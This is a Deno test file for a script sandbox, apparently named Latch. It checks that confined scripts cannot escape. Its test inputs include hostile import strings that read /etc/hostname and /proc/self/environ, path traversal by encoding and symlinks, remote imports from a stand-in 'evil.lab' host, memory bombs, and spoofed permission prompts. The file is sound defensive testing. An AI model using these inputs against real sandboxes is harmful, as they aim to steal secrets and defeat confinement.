/** Hostile scripts, confined, that go for this machine: each is held, and the host and the target are unharmed. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { declaredRights } from "../../lib/script/declared.ts";
import { ended, latchWords, type Outcome, outcome, steps } from "./hostile_support.ts";
import type { Scene } from "./scene_support.ts";

/** What a script can do without any right, and that is harmless. */
const HARMLESS = [
  "dynamic import own folder", // it has been looked at before the script ran
  "cwd", // the name of a folder
  "process.cwd",
  "execPath",
  "execArgv",
  "v8 flags", // V8 has frozen them
  "vm", // the same process and permissions
  "sessionStorage", // memory of its own process
  "kill pid + 2^32", // its own process
  "stdin tty",
  "internal",
  "channel",
];

/** What is held by something else than a permission of Deno's that is missing. */
const OTHERWISE: Readonly<Record<string, string>> = {
  "UnsafePointerView": "TypeError: expected external", // there is no pointer to be had
  "node:ffi": 'TypeError: Unsupported scheme "node" for module "node:ffi"',
  "permissions.request": "Error: denied",
  "worker static bytes import": 'Error: worker The import attribute type of "bytes" is unsupported',
  "node worker SHARE_ENV": "Error: Initiated Worker with invalid execArgv flags",
  "dynamic import bytes": 'TypeError: "bytes" is not a valid module type',
  "import of https //deno.land/x/x.ts": "TypeError: A remote specifier was requested",
  "import of jsr @std/assert": "TypeError: JSR package manifest for '@std/assert' failed to load. A remote specifier",
  "import of npm chalk": "TypeError: npm specifiers were requested; but --no-npm is specified",
  "import of npm /chalk@5": "TypeError: npm specifiers were requested; but --no-npm is specified",
  "listenDatagram": "TypeError: Function.prototype.apply was called on undefined", // not without a flag of Deno's
  "openKv": "TypeError: Function.prototype.apply was called on undefined",
  "dns.lookup": "Error: getaddrinfo EPERM",
  "EventSource": "Error: ", // it does not say why
  "sqlite attach": "Error: too many attached databases - max 0",
  "symlink": "NotCapable: Deno.symlinkSync() requires unscoped --allow-read and --allow-write permissions",
  "localStorage": "NotADirectory: Not a directory",
  "caches": "Error: Failed to create cache storage directory",
  "kill fraction": 'TypeError: The "pid" argument must be of type number',
};

/** In a worker, and where an import fails, Deno's error has another kind. */
const MISSING =
  /^HELD (?:NotCapable: |TypeError: |Error: (?:worker |NotCapable: )?)Requires (?:[a-z]+) access.*, run again with the --allow-[a-z]+ flag$/;

async function holdsPermissions(scene: Scene): Promise<void> {
  const { code, deeds, err, out } = await outcome(scene, "system.ts");
  assert.deepEqual([code, out.split("\n").at(-2)], [0, "end"], err);
  assert.deepEqual([...deeds].filter(([, what]) => what.startsWith("DONE")).map(([name]) => name), HARMLESS);
  for (const [name, what] of deeds) {
    const other = Object.hasOwn(OTHERWISE, name) ? `HELD ${OTHERWISE[name]}` : undefined;
    if (HARMLESS.includes(name)) continue;
    assert.ok(other === undefined ? MISSING.test(what) : what.startsWith(other), `${name}: ${what}`);
  }
  const wider = await outcome(scene, "wider.ts");
  assert.deepEqual([wider.code, wider.out], [70, ""], wider.err);
  assert.ok(deeds.size > 90, `${deeds.size} deeds`);
}

const OUTSIDE = "which lies outside of the script's folder\n";
const UNGRANTED = (host: string): string => `run again with --allow-import=${host} if that is to be\n`;

/** Scripts by what they import; what is refused in that, and why. F is the folder around the script's own. */
const IMPORTS: Readonly<Record<string, readonly [source: string, what: string, why: string]>> = {
  text: ['import t from "../secret.json" with { type: "text" }; console.log(t);', "file://F/secret.json", OUTSIDE],
  json: ['import t from "../secret.json" with { type: "json" }; console.log(t);', "file://F/secret.json", OUTSIDE],
  bytes: ['import t from "../secret.json" with { type: "bytes" }; console.log(t);', "file://F/secret.json", OUTSIDE],
  system: ['import t from "/etc/hostname" with { type: "text" }; console.log(t);', "file:///etc/hostname", OUTSIDE],
  process: [
    'import t from "/proc/self/environ" with { type: "text" }; console.log(t);',
    "file:///proc/self/environ",
    OUTSIDE,
  ],
  encoded: [
    'import t from "./%2e%2e/secret.json" with { type: "json" }; console.log(t);',
    "file://F/secret.json",
    OUTSIDE,
  ],
  link: ['import t from "./link.json" with { type: "json" }; console.log(t);', "file://F/own/link.json", OUTSIDE],
  linkedFolder: [
    'import t from "./linked/secret.json" with { type: "json" }; console.log(t);',
    "file://F/own/linked/secret.json",
    OUTSIDE,
  ],
  reexport: ['export * from "../secret.ts";', "file://F/secret.ts", OUTSIDE],
  literal: ['const s = await import("../secret.ts"); console.log(s);', "file://F/secret.ts", OUTSIDE],
  types: ['import type { secret } from "../secret.ts"; export * from "../secret.ts";', "file://F/secret.ts", OUTSIDE],
  data: [
    'import t from "data:text/javascript,import s from \\"file:///etc/hostname\\" with { type: \\"text\\" }; export default s"; console.log(t);',
    "file:///etc/hostname",
    OUTSIDE,
  ],
  http: ['import "http://127.0.0.1:1/evil.ts";', "http://127.0.0.1:1/evil.ts", UNGRANTED("127.0.0.1:1")],
  https: ['import "https://evil.lab/evil.ts";', "https://evil.lab/evil.ts", UNGRANTED("evil.lab:443")],
  jsr: ['import "jsr:@std/assert";', "jsr:@std/assert", "which a confined script cannot ("],
  npm: ['import "npm:chalk";', "npm:chalk", "which a confined script cannot ("],
  jsx: [
    "/** @jsxImportSource https://evil.lab */\nconsole.log(<a />);",
    "https://evil.lab/jsx-runtime",
    UNGRANTED("evil.lab:443"),
  ],
  share: ['import "file://evil.lab/share/x.ts";', "file://evil.lab/share/x.ts", "which is on another machine\n"],
  plain: [
    'import t from "./notes.txt" with { type: "text" }; console.log(t);',
    "file://F/own/notes.txt",
    "which is neither code nor JSON\n",
  ],
};

async function refusesImports(scene: Scene): Promise<void> {
  const folder = await Deno.makeTempDir({ prefix: "latch-" });
  const at = (...parts: string[]): string => join(folder, ...parts);
  await Deno.mkdir(at("own"));
  await Deno.writeTextFile(at("secret.json"), '"the secret"');
  await Deno.writeTextFile(at("secret.ts"), 'export const secret = "the secret";');
  await Deno.writeTextFile(at("own", "notes.txt"), "the secret");
  await Deno.symlink(at("secret.json"), at("own", "link.json"));
  await Deno.symlink(folder, at("own", "linked"));
  const config = {
    imports: { mapped: "../secret.ts" },
    unstable: ["worker-options"],
    permissions: { default: { all: true } },
  };
  await Deno.writeTextFile(at("own", "deno.json"), JSON.stringify(config));
  await Deno.writeTextFile(at("own", "package.json"), '{"imports":{"mapped":"../secret.ts"}}');
  const refused = async (name: string, source: string): Promise<Outcome> => {
    const script = at("own", `${name}.${name === "jsx" ? "tsx" : "ts"}`);
    await Deno.writeTextFile(script, source);
    const told = await outcome(scene, script, { cwd: at("own") });
    assert.doesNotMatch(told.err, /the secret/, name);
    return { ...told, err: told.err.replaceAll(folder, "F") };
  };
  await Promise.all(
    Object.entries(IMPORTS).map(async ([name, [source, what, why]]) => {
      const { code, out, err } = await refused(name, source);
      assert.deepEqual([name, code, out], [name, 2, ""], err);
      const script = `file://F/own/${name}.${name === "jsx" ? "tsx" : "ts"}`;
      const told = `error: Cannot run ${script}: it imports "${what}", ${why}`;
      assert.equal(err.slice(0, told.length), told);
    }),
  );
  // A map of names beside the script does not count: Deno itself does not find it.
  const { code, out, err } = await refused("bare", 'import "mapped"; ');
  assert.deepEqual([code, out], [1, ""], err);
  assert.match(
    err,
    /^error: Import "mapped" not a dependency and not in import map from "file:\/\/F\/own\/bare\.ts"\n/,
  );
  await Deno.remove(folder, { recursive: true });
}

/** Scripts that take all they can get. */
async function endsLoops(): Promise<void> {
  const loops = ["top", "worker", "stop"].map(async (way) => {
    const { code, reason } = await ended("loop.ts", { args: ["", way], deadline: 1_500 });
    assert.deepEqual([way, code, reason], [way, 124, "deadline"]);
  });
  const bombs = ["buffers", "shared", "worker", "wasm"].map(async (way) => {
    const { code, reason } = await ended("bomb.ts", { args: [way], memory: 250 });
    assert.deepEqual([way, code, reason], [way, 137, "memory"]);
  });
  const heaps = ["heap", "texts"].map(async (way) => {
    const { code, reason, err } = await ended("bomb.ts", { args: [way], memory: 250 });
    // V8 ends the process by itself where its own limit comes first.
    if (reason === "exited") assert.match(err, /heap|memory|Invalid string length/i);
    else assert.deepEqual([way, code, reason], [way, 137, "memory"]);
    assert.notEqual(code, 0);
  });
  await Promise.all([...loops, ...bombs, ...heaps]);
}

const FORGERIES = [
  ...[
    "no JSON",
    "no greeting",
    "another version",
    "an answer",
    "an error as an answer",
    "a notice",
    "a number",
    "null",
  ],
  ...["a text as the id", "no list of values", "a damaged bigint", "deep nesting", "no UTF-8", "a huge frame"],
  "two greetings",
];

async function refusesForgeries(scene: Scene): Promise<void> {
  await Promise.all(FORGERIES.map(async (way) => {
    const { code, reason } = await ended("forge.ts", { args: [way] });
    assert.deepEqual([way, code, reason], [way, 137, "protocol"]);
  }));
  const greeting = await outcome(scene, "forge.ts", { args: ["no greeting"] });
  assert.deepEqual([greeting.code, /what is no message of Latch's/.test(greeting.err)], [137, true], greeting.err);
  const { code, out } = await outcome(scene, "noise.ts");
  assert.deepEqual([code, out.split("\n").slice(0, 2)], [0, ["plain31m", "end of control"]]);
  // deno-lint-ignore no-control-regex
  assert.doesNotMatch(out, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
}

/** Answers that were typed for a question of the script's own making do not count for the next real one. */
async function asksByItself(scene: Scene): Promise<void> {
  const latch = latchWords("spoof.ts", [scene.target.name]).map((word) => `'${word}'`).join(" ");
  const child = new Deno.Command("script", {
    args: ["-qec", latch, "/dev/null"],
    env: { LATCH_HOST: scene.host.deno, TERM: "xterm" },
    ...{ stdin: "piped", stdout: "piped", stderr: "null" } as const,
  }).spawn();
  const typed = child.stdin.getWriter();
  let shown = "";
  let answers = 0;
  for await (const text of child.stdout.pipeThrough(new TextDecoderStream())) {
    shown += text;
    if (answers === 0 && shown.includes("forged question")) {
      await typed.write(encoder.encode("y\n")).then(() => answers++);
    }
    if (answers === 1 && shown.includes("┗ Allow?")) await typed.write(encoder.encode("n\n")).then(() => answers++);
  }
  await typed.close().catch(() => {}); // the terminal has gone
  assert.equal((await child.status).code, 0, shown);
  assert.match(shown, /HELD attach: NotCapable: Requires attach access/);
  const asked = shown.indexOf('┏ Latch asks: the script "');
  const before = shown.slice(shown.indexOf("\x1b[8m"), asked);
  assert.ok(before.includes("\x1b[0m"), "what hides text ends before the question");
  assert.ok(!shown.includes("evil title") && !shown.includes("\x1b[2J"));
}

const encoder = new TextEncoder();

Deno.test("hostile scripts get nothing of this machine's", async (test) => {
  await steps(test, {
    "what takes Deno's permissions, and imports": [holdsPermissions, refusesImports],
    "endless loops and memory bombs": [endsLoops],
    "forged and malformed messages": [refusesForgeries, asksByItself],
  });
});

Deno.test("a declaration that is made to be read in many ways is read in one", () => {
  // With two ways to read each comment this would take longer than anybody waits.
  assert.throws(() => declaredRights(`export const rights = [${"/**/".repeat(5_000)}x`), TypeError);
  assert.throws(() => declaredRights(`export const rights = ["--allow-dump"${"/* */ ".repeat(5_000)}x`), TypeError);
  assert.deepEqual(declaredRights('export const rights = [/* ** */ "--allow-dump", // all\n];'), ["--allow-dump"]);
});
